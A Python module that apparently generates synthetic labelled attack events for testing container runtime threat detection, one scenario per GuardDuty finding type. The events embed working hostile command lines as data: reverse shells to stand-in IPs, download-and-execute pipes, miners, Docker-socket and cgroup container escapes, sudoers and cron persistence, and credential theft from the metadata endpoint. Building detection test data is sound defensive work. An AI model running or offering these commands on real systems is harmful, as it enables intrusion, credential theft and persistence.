"""Attack scenarios for the labelled sample stream, several variants per GuardDuty finding type.

Each scenario returns the events of one attack in one task. Variants differ in binaries, paths,
interpreters and parents so an evaluation rewards behaviour matching, not exact strings.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

from ecsguard.sample.runtime.events import Builder, proc
from ecsguard.sample.runtime.workloads import Task

__all__ = ["SCENARIOS", "Scenario"]

Events = list[dict[str, Any]]
Scenario = tuple[
    str, str, Callable[[Builder, Task, random.Random], Events]
]  # id, finding type, builder
C2 = ("198.51.100.23", "203.0.113.77", "192.0.2.141", "45.33.32.156")


def _shell(
    b: Builder, task: Task, rng: random.Random, name: str = "sh"
) -> tuple[Events, dict[str, Any]]:
    """An attacker shell below the workload's main (network-facing) process."""
    event, sh = b.exec(
        task,
        b.main_proc(task),
        name,
        f"/bin/{name}",
        f"/bin/{name} -c {rng.choice(('id', 'uname -a', 'true'))}",
    )
    return [event], sh


def _run(
    b: Builder,
    task: Task,
    parent: dict[str, Any],
    cmd: str,
    exe: str | None = None,
    uid: int | None = None,
) -> Events:
    name = cmd.split()[0].rsplit("/", 1)[-1]
    event, _ = b.exec(
        task,
        parent,
        name,
        exe or (cmd.split()[0] if cmd.startswith("/") else f"/usr/bin/{name}"),
        cmd,
        uid=uid,
    )
    return [event]


def reverse_shell(b: Builder, task: Task, rng: random.Random) -> Events:
    ip = rng.choice(C2)
    port = rng.choice((443, 8443, 4444, 53, 9002))
    main = b.main_proc(task)
    variant = rng.randrange(6)
    if variant == 0:
        ev, sh = b.exec(
            task,
            main,
            "bash",
            "/bin/bash",
            f"bash -c exec 5<>/dev/tcp/{ip}/{port};cat <&5 | while read l; do $l 2>&5 >&5; done",
        )
        return [ev, b.connect(task, sh, ip, port)]
    if variant == 1:
        return _run(
            b,
            task,
            main,
            f'ruby -rsocket -e f=TCPSocket.open("{ip}",{port}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        )
    if variant == 2:
        ev, _ = b.exec(
            task,
            main,
            "dbus-daemon-helper",
            "/var/tmp/dbus-daemon-helper",
            f"/var/tmp/dbus-daemon-helper {ip} {port} -e /bin/bash",
        )
        return [ev]
    if variant == 3:
        return _run(
            b,
            task,
            main,
            f'php -r $s=fsockopen("{ip}",{port});shell_exec("/bin/sh -i <&3 >&3 2>&3");',
            "/usr/bin/php",
        )
    if variant == 4:
        return _run(
            b,
            task,
            main,
            f"node -e (function(){{var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect({port},'{ip}',function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);}});}})();",
            "/usr/local/bin/node",
        )
    ev, sh = b.exec(task, main, "sh", "/bin/sh", "sh")
    return [ev, b.connect(task, sh, ip, port)]


def shell_from_service(b: Builder, task: Task, rng: random.Random) -> Events:
    name = rng.choice(("sh", "bash", "dash"))
    cmd = rng.choice((f"/bin/{name}", f"{name} -c ls /app", f"{name} -i"))
    ev, _ = b.exec(task, b.main_proc(task), name, f"/bin/{name}", cmd)
    return [ev]


def offensive_tool(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "masscan 10.0.0.0/16 -p22,5432,6379 --rate 5000",
            "python3 /tmp/lse.py -l 1",
            "/tmp/.cache/gost -L socks5://:1080 -F relay+tls://203.0.113.77:443",
            "/dev/shm/.u client 192.0.2.141:443 R:socks",
            "hydra -l admin -P /tmp/p.txt ssh://10.0.21.14",
            "/tmp/nm -Pn -sV 10.0.21.0/24",
        )
    )
    return events + _run(b, task, sh, cmd, exe=cmd.split()[0] if cmd.startswith("/") else None)


def dual_use_tool(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "tcpdump -nn -i any -c 1000 port 8443",
            "tshark -i eth0 -f tcp port 5432",
            "ncat --ssl 203.0.113.77 443",
        )
    )
    return events + _run(b, task, sh, cmd)


def download_exec(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "sh -c wget -qO- http://192.0.2.141/i.sh | bash",
            "bash -c curl -s 203.0.113.77:8000/x | python3 -",
            "sh -c busybox wget http://198.51.100.23/a -O /tmp/a; chmod 755 /tmp/a; /tmp/a",
            "bash -c bash <(curl -fsSL https://203.0.113.77/setup)",
            "sh -c echo cHl0aG9uMyAtYyAnaW1wb3J0IG9zJw== | base64 --decode | sh",
        )
    )
    return events + _run(b, task, sh, cmd, exe="/bin/" + cmd.split()[0])


def miner(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    name = rng.choice(("kswapd0", "[kworker/u8:2]", "dockerd-update", "xmr64"))
    cmd = rng.choice(
        (
            f"/tmp/{name} -o stratum+ssl://203.0.113.77:443 -u 4AdUnd -p x --cpu-max-threads-hint=80",
            f"/var/tmp/{name} --url=pool.hashvault.pro:80 --user=84xq --donate-level=1",
            f"/dev/shm/{name} -a rx/0 -o 45.33.32.156:7777 -k --tls",
        )
    )
    ev, miner_proc = b.exec(task, sh, name, cmd.split()[0], cmd)
    return [*events, ev, b.connect(task, miner_proc, "45.33.32.156", 7777)]


def new_binary(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    writer = rng.choice(
        (
            ("curl", "/usr/bin/curl"),
            ("python3", "/usr/local/bin/python3"),
            ("wget", "/usr/bin/wget"),
        )
    )
    path = rng.choice(
        ("/tmp/systemd-private", "/app/.cache/upd", "/var/tmp/kdevtmp", "/usr/local/bin/jvm-agent")
    )
    wproc = proc(
        sh["pid"] + 3, writer[0], writer[1], f"{writer[0]} http://192.0.2.141/p", task.workload.uid
    )
    events.append(b.open(task, wproc, path, "O_WRONLY|O_CREAT|O_TRUNC"))
    events.extend(_run(b, task, sh, f"chmod +x {path}", "/bin/chmod"))
    ev, _ = b.exec(task, sh, path.rsplit("/", 1)[-1], path, path)
    return [*events, ev]


def new_library(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    lib = rng.choice(("/tmp/libprocesshider.so", "/var/tmp/.libssl.so.3", "/dev/shm/libnss_x.so.2"))
    wproc = proc(
        sh["pid"] + 2,
        "curl",
        "/usr/bin/curl",
        f"curl -o {lib} http://203.0.113.77/l",
        task.workload.uid,
    )
    events.append(b.open(task, wproc, lib, "O_WRONLY|O_CREAT|O_TRUNC"))
    events.append(b.open(task, b.main_proc(task), lib, "O_RDONLY|O_CLOEXEC"))
    return events


def fileless(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    exe = rng.choice(("/memfd:a (deleted)", "/memfd: (deleted)", "/tmp/.X11-unix/x (deleted)"))
    ev, _ = b.exec(
        task,
        sh,
        rng.choice(("3", "python3", "kworker")),
        exe,
        rng.choice(("/proc/self/fd/3", "[kworker/0:2]", "-bash")),
    )
    return [*events, ev]


def docker_socket(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    v = rng.randrange(3)
    if v == 0:
        return events + _run(
            b,
            task,
            sh,
            "docker -H unix:///host/var/run/docker.sock run --privileged -v /:/h alpine chroot /h",
        )
    if v == 1:
        p = proc(
            sh["pid"] + 1,
            "python3",
            "/usr/local/bin/python3",
            "python3 -c import docker;docker.from_env()",
            task.workload.uid,
        )
        return [*events, b.unix_connect(task, p, "/run/docker.sock")]
    p = proc(
        sh["pid"] + 1,
        "socat",
        "/usr/bin/socat",
        "socat - UNIX-CONNECT:/var/run/docker.sock",
        task.workload.uid,
    )
    return [*events, b.open(task, p, "/var/run/docker.sock", "O_RDWR")]


def runc_escape(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    v = rng.randrange(3)
    p = proc(sh["pid"] + 1, "exp", "/tmp/exp", "/tmp/exp", 0)
    if v == 0:
        return [*events, b.open(task, p, f"/proc/{rng.randint(100, 900)}/exe", "O_WRONLY|O_TRUNC")]
    if v == 1:
        return [*events, b.open(task, p, "/usr/sbin/runc", "O_RDWR")]
    ev, _child = b.exec(task, sh, "sh", "/bin/sh", "sh")
    ev["process"]["working_directory"] = "/proc/self/fd/7"
    return [*events, ev]


def release_agent(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    if rng.random() < 0.5:
        return events + _run(
            b, task, sh, 'sh -c echo "$host_path/cmd" > /tmp/cgrp/release_agent', "/bin/sh"
        )
    p = proc(sh["pid"] + 1, "python3", "/usr/local/bin/python3", "python3 esc.py", 0)
    return [*events, b.open(task, p, "/mnt/cg/x/release_agent", "O_WRONLY|O_TRUNC")]


def mount_host(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    v = rng.randrange(3)
    if v == 0:
        p = proc(sh["pid"] + 1, "mount", "/bin/mount", "mount /dev/nvme0n1p1 /tmp/host", 0)
        return [
            *events,
            b.file_op(
                task,
                p,
                "/tmp/host",
                12,
                "mount",
                {"mount": {"source": "/dev/nvme0n1p1", "fstype": "xfs", "flags": 0}},
            ),
        ]
    if v == 1:
        return events + _run(b, task, sh, "mount -t ext4 /dev/xvda1 /mnt/root", "/bin/mount", uid=0)
    return events + _run(b, task, sh, "nsenter -t 1 -m -u -i -n -p -- sh", uid=0)


def elevation(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    v = rng.randrange(3)
    if v == 0:
        p = proc(sh["pid"] + 1, "exploit", "/tmp/exploit", "/tmp/exploit", 1000)
        return [*events, b.syscall(task, p, "setresuid", 5, {"target_uid": 0})]
    if v == 1:
        return events + _run(b, task, sh, "find . -exec /bin/sh -p ; -quit", "/usr/bin/find", uid=0)
    return events + _run(
        b, task, sh, "/usr/bin/python3.11 -c import os;os.setuid(0);os.system('/bin/sh')", uid=0
    )


def privesc_command(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "chmod 6755 /tmp/.bash",
            "chmod g+s /usr/local/bin/helper",
            "setcap cap_setuid,cap_setgid=ep /tmp/py3",
            "sh -c echo 'www-data ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers",
            "/tmp/CVE-2023-0386/exp",
        )
    )
    return events + _run(
        b,
        task,
        sh,
        cmd,
        exe="/bin/" + cmd.split()[0] if not cmd.startswith("/") else cmd.split()[0],
    )


def proc_mem(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    if rng.random() < 0.5:
        p = proc(sh["pid"] + 1, "perl", "/usr/bin/perl", "perl inject.pl", task.workload.uid)
        return [*events, b.open(task, p, f"/proc/{task.main_pid}/mem", "O_RDWR")]
    return events + _run(
        b,
        task,
        sh,
        f"python3 -c f=open('/proc/{task.main_pid}/mem','r+b');f.seek(0x401000);f.write(sc)",
    )


def ptrace_inject(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    if rng.random() < 0.5:
        p = proc(
            sh["pid"] + 1, "hook", "/tmp/hook", f"/tmp/hook {task.main_pid}", task.workload.uid
        )
        return [
            *events,
            b.syscall(
                task,
                p,
                "ptrace",
                4,
                {
                    "ptrace_request": rng.choice(("PTRACE_POKETEXT", "PTRACE_SEIZE")),
                    "target": {"pid": task.main_pid},
                },
            ),
        ]
    return events + _run(
        b, task, sh, f"gdb --batch --pid {task.main_pid} -ex 'call system(\"id\")'"
    )


def vm_writev(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    p = proc(sh["pid"] + 1, "pvw", "/tmp/pvw", "/tmp/pvw", task.workload.uid)
    return [*events, b.syscall(task, p, "process_vm_writev", 4, {"target": {"pid": task.main_pid}})]


def traceme(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    p = proc(sh["pid"] + 1, "xmr64", "/tmp/xmr64", "/tmp/xmr64", task.workload.uid)
    return [*events, b.syscall(task, p, "ptrace", 4, {"ptrace_request": "0", "target": {"pid": 0}})]


def userfaultfd(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    p = proc(sh["pid"] + 1, "a.out", "/tmp/a.out", "/tmp/a.out", task.workload.uid)
    return [*events, b.syscall(task, p, "userfaultfd", 99, {})]


def evasion(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "iptables -P INPUT ACCEPT",
            "sh -c export HISTFILE=/dev/null",
            "pkill -9 -f amazon-ssm-agent",
            "sh -c cat /dev/null > /var/log/nginx/access.log",
            "sh -c echo /usr/lib/libkeyutils.so > /etc/ld.so.preload",
        )
    )
    return events + _run(b, task, sh, cmd, exe="/bin/" + cmd.split()[0])


def kernel_module(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    if rng.random() < 0.5:
        return events + _run(
            b, task, sh, rng.choice(("insmod /tmp/.r/reptile.ko", "modprobe -a diamorphine")), uid=0
        )
    p = proc(sh["pid"] + 1, "loader", "/tmp/loader", "/tmp/loader", 0)
    return [*events, b.syscall(task, p, "init_module", 99, {"module_file": ""})]


def discovery(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    cmd = rng.choice(
        (
            "aws iam list-attached-role-policies --role-name app",
            "wget -qO- http://169.254.170.2/v2/credentials/4b3c",
            "grep -rn aws_secret_access_key /home /root /app",
            "cat /proc/1/environ",
            "find / -perm -u=s -type f 2>/dev/null",
        )
    )
    return events + _run(b, task, sh, cmd)


def persistence(b: Builder, task: Task, rng: random.Random) -> Events:
    events, sh = _shell(b, task, rng)
    v = rng.randrange(4)
    if v == 0:
        return events + _run(
            b, task, sh, "sh -c echo '* * * * * root /tmp/.x' >> /etc/crontab", "/bin/sh"
        )
    if v == 1:
        p = proc(
            sh["pid"] + 1,
            "python3",
            "/usr/local/bin/python3",
            "python3 -c open('/etc/systemd/system/x.service','w')",
            0,
        )
        return [
            *events,
            b.open(task, p, "/etc/systemd/system/dbus-update.service", "O_WRONLY|O_CREAT|O_TRUNC"),
        ]
    if v == 2:
        return events + _run(b, task, sh, "adduser -D -u 0 -o sysadm", "/usr/sbin/adduser")
    p = proc(
        sh["pid"] + 1,
        "cp",
        "/bin/cp",
        "cp /tmp/k /home/app/.ssh/authorized_keys",
        task.workload.uid,
    )
    return [*events, b.open(task, p, "/home/app/.ssh/authorized_keys", "O_WRONLY|O_CREAT|O_TRUNC")]


def _dns_attack(
    names: tuple[str, ...], answers: tuple[str, ...] = ("203.0.113.77",)
) -> Callable[[Builder, Task, random.Random], Events]:
    def build(b: Builder, task: Task, rng: random.Random) -> Events:
        return [b.dns(task, b.main_proc(task), rng.choice(names), list(answers))]

    return build


def miner_port(b: Builder, task: Task, rng: random.Random) -> Events:
    p = proc(task.next_pid + 50, "kthreadd", "/tmp/kthreadd", "/tmp/kthreadd", task.workload.uid)
    return [b.connect(task, p, rng.choice(C2), rng.choice((3333, 14444, 5555, 45700)))]


def tor_client(b: Builder, task: Task, rng: random.Random) -> Events:
    p = proc(
        task.next_pid + 50, "python3", "/usr/local/bin/python3", "python3 bot.py", task.workload.uid
    )
    if rng.random() < 0.5:
        return [b.connect(task, p, rng.choice(C2), rng.choice((9001, 9030)))]
    return [b.dns(task, p, "xyzabc2345abcdef.onion.ly", ["203.0.113.9"])]


def tor_relay(b: Builder, task: Task, rng: random.Random) -> Events:
    p = proc(task.next_pid + 50, "tor", "/usr/sbin/tor", "tor -f /tmp/torrc", task.workload.uid)
    return [b.listen(task, p, 9001)]


def rebind(b: Builder, task: Task, rng: random.Random) -> Events:
    if rng.random() < 0.5:
        return [b.dns(task, b.main_proc(task), "a9fea9fe.0a000001.rbndr.us", ["169.254.169.254"])]
    return [b.dns(task, b.main_proc(task), "meta.attacker-rebind.example", ["169.254.169.254"])]


SCENARIOS: tuple[Scenario, ...] = (
    ("reverse_shell", "Execution:Runtime/ReverseShell", reverse_shell),
    ("shell_from_service", "Execution:Runtime/SuspiciousShellCreated", shell_from_service),
    ("offensive_tool", "Execution:Runtime/SuspiciousTool", offensive_tool),
    ("dual_use_tool", "Execution:Runtime/SuspiciousTool", dual_use_tool),
    ("download_exec", "Execution:Runtime/SuspiciousCommand", download_exec),
    ("miner", "Impact:Runtime/CryptoMinerExecuted", miner),
    ("new_binary", "Execution:Runtime/NewBinaryExecuted", new_binary),
    ("new_library", "Execution:Runtime/NewLibraryLoaded", new_library),
    ("fileless", "DefenseEvasion:Runtime/FilelessExecution", fileless),
    ("docker_socket", "PrivilegeEscalation:Runtime/DockerSocketAccessed", docker_socket),
    ("runc_escape", "PrivilegeEscalation:Runtime/RuncContainerEscape", runc_escape),
    ("release_agent", "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", release_agent),
    ("mount_host", "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", mount_host),
    ("elevation", "PrivilegeEscalation:Runtime/ElevationToRoot", elevation),
    ("privesc_command", "PrivilegeEscalation:Runtime/SuspiciousCommand", privesc_command),
    ("proc_mem", "DefenseEvasion:Runtime/ProcessInjection.Proc", proc_mem),
    ("ptrace_inject", "DefenseEvasion:Runtime/ProcessInjection.Ptrace", ptrace_inject),
    ("vm_writev", "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", vm_writev),
    ("traceme", "DefenseEvasion:Runtime/PtraceAntiDebugging", traceme),
    ("userfaultfd", "PrivilegeEscalation:Runtime/UserfaultfdUsage", userfaultfd),
    ("evasion", "DefenseEvasion:Runtime/SuspiciousCommand", evasion),
    ("kernel_module", "DefenseEvasion:Runtime/KernelModuleLoaded", kernel_module),
    ("discovery", "Discovery:Runtime/SuspiciousCommand", discovery),
    ("persistence", "Persistence:Runtime/SuspiciousCommand", persistence),
    (
        "c2_dns",
        "Backdoor:Runtime/C&CActivity.B!DNS",
        _dns_attack(("guarddutyc2activityb.com", "beacon.guarddutyc2activityb.com")),
    ),
    ("miner_port", "CryptoCurrency:Runtime/BitcoinTool.B", miner_port),
    (
        "miner_dns",
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        _dns_attack(("xmr.2miners.com", "pool.minexmr.com", "rx.unmineable.com")),
    ),
    ("tor_client", "UnauthorizedAccess:Runtime/TorClient", tor_client),
    ("tor_relay", "UnauthorizedAccess:Runtime/TorRelay", tor_relay),
    (
        "abused_domain",
        "Impact:Runtime/AbusedDomainRequest.Reputation",
        _dns_attack(("exfil-7.duckdns.org", "bright-owl-42.trycloudflare.com", "cq3c9k.oast.fun")),
    ),
    ("metadata_rebind", "UnauthorizedAccess:Runtime/MetadataDNSRebind", rebind),
    (
        "crypto_domain",
        "Impact:Runtime/BitcoinDomainRequest.Reputation",
        _dns_attack(("monero-wallet-sync.net", "getxmr-fast.com")),
    ),
    (
        "suspicious_tld",
        "Impact:Runtime/SuspiciousDomainRequest.Reputation",
        _dns_attack(("cdn-update.gq", "login-portal.ml")),
    ),
    (
        "dga",
        "Trojan:Runtime/DGADomainRequest.C!DNS",
        _dns_attack(("xkqjzvbwtpl7rmfh.com", "qz7vw3kxplmtrbh9.net", "bvxqzkrtwplmnq.info"), ()),
    ),
)
